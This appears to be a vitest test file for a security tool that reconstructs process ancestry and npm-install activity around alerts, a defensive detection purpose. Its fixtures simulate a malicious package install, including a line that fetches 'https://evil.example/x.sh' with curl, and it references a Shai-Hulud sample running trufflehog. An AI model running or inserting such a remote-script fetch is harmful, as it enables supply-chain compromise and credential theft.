import { describe, expect, it } from 'vitest';
import { Enricher } from '../../src/enrich/enricher.js';
import { ACTIVITY_PER_INSTALL } from '../../src/enrich/investigation.js';
import type { Fields, NormalizedEvent } from '../../src/events/event.js';
import { runCli } from '../helpers/cli.js';

const T0 = Date.UTC(2026, 10, 27, 9, 0, 0);
let line = 0;
const ev = (category: string, time: number, fields: Fields, host = 'build-7'): NormalizedEvent => ({
  category, product: 'linux', time, host, fields, source: { file: 'f.ndjson', format: 'x', line: ++line },
});
const exec = (time: number, pid: number, ppid: number, image: string, commandLine: string) =>
  ev('process_creation', time, { ProcessId: pid, ParentProcessId: ppid, Image: image, CommandLine: commandLine });

describe('investigation context', () => {
  it('gives the ancestry chain and the install subtree activity up to the alerting event', () => {
    const e = new Enricher();
    line = 0;
    const events = [
      exec(T0, 100, 1, '/usr/bin/node', 'npm install evil-pkg'),
      exec(T0 + 10, 101, 100, '/bin/sh', 'sh -c node install.js'),
      exec(T0 + 20, 102, 101, '/usr/bin/curl', 'curl -s https://evil.example/x.sh'),
      ev('network_connection', T0 + 30, { ProcessId: 102, Image: '/usr/bin/curl', DestinationIp: '203.0.113.7', DestinationPort: 443 }),
      ev('file_event', T0 + 40, { ProcessId: 102, Image: '/usr/bin/curl', TargetFilename: '/tmp/x.sh' }),
      // Not in the install: a shell started by an editor writes a file.
      exec(T0 + 50, 200, 1, '/bin/bash', 'bash'),
      ev('file_event', T0 + 60, { ProcessId: 200, Image: '/bin/bash', TargetFilename: '/home/u/notes.txt' }),
    ];
    for (const x of events) e.enrich(x);
    const context = e.investigation(events[4]!);
    expect(context.ancestry.map((a) => a.commandLine)).toEqual(['curl -s https://evil.example/x.sh', 'sh -c node install.js', 'npm install evil-pkg']);
    expect(context.ancestry.map((a) => a.pid)).toEqual([102, 101, 100]);
    expect(context.ancestry[0]!.time).toBe(new Date(T0 + 20).toISOString());
    expect(context.install).toMatchObject({ commandLine: 'npm install evil-pkg', pid: 100 });
    expect(context.related).toEqual([
      { time: new Date(T0 + 30).toISOString(), category: 'network_connection', image: '/usr/bin/curl', target: '203.0.113.7:443', source: 'f.ndjson:4' },
      { time: new Date(T0 + 40).toISOString(), category: 'file_event', image: '/usr/bin/curl', target: '/tmp/x.sh', source: 'f.ndjson:5' },
    ]);
    const outside = e.investigation(events[6]!);
    expect(outside.install).toBeUndefined();
    expect(outside.related).toEqual([]);
    expect(outside.ancestry.map((a) => a.image)).toEqual(['/bin/bash']);
  });

  it('keeps only the most recent activity of an install (bounded)', () => {
    const e = new Enricher();
    e.enrich(exec(T0, 100, 1, '/usr/bin/node', 'npm install big'));
    e.enrich(exec(T0 + 1, 101, 100, '/bin/sh', 'sh -c node install.js'));
    for (let i = 0; i < ACTIVITY_PER_INSTALL + 5; i++) {
      e.enrich(ev('file_event', T0 + 10 + i, { ProcessId: 101, Image: '/bin/sh', TargetFilename: `/tmp/f${i}` }));
    }
    const related = e.investigation(ev('file_event', T0 + 100, { ProcessId: 101, Image: '/bin/sh', TargetFilename: '/tmp/last' })).related;
    expect(related).toHaveLength(ACTIVITY_PER_INSTALL);
    expect(related[0]!.target).toBe('/tmp/f5');
  });

  it('reaches alerts: JSONL carries it, the table draws the tree', async () => {
    const file = 'eval-corpus/malicious/shai-hulud-linux.ndjson';
    const json = await runCli(['scan', file, '--rules', 'hardened', '--format', 'jsonl', '-q']);
    const alerts = json.stdout.trim().split('\n').map((l) => JSON.parse(l));
    const trufflehog = alerts.find((a) => a.source.line === 11);
    // Read off the sample: bash → npm install → sh -c node bundle.js → node bundle.js → trufflehog.
    // bash is known only as npm's ParentImage, so it has no pid.
    expect(trufflehog.context.ancestry.map((a: { pid?: number }) => a.pid)).toEqual([7160, 7158, 7147, 7136, undefined]);
    expect(trufflehog.context.ancestry[4].image).toBe('/usr/bin/bash');
    expect(trufflehog.context.install.commandLine).toBe('npm install');
    expect(trufflehog.context.related.map((r: { target: string }) => r.target)).toContain('github.com:443');
    const table = await runCli(['scan', file, '--rules', 'hardened', '--format', 'table', '-q']);
    expect(table.stdout).toMatch(/ancestry +bash\n +└ npm install \[7136\]\n/);
    expect(table.stdout).toContain('related');
  });
});
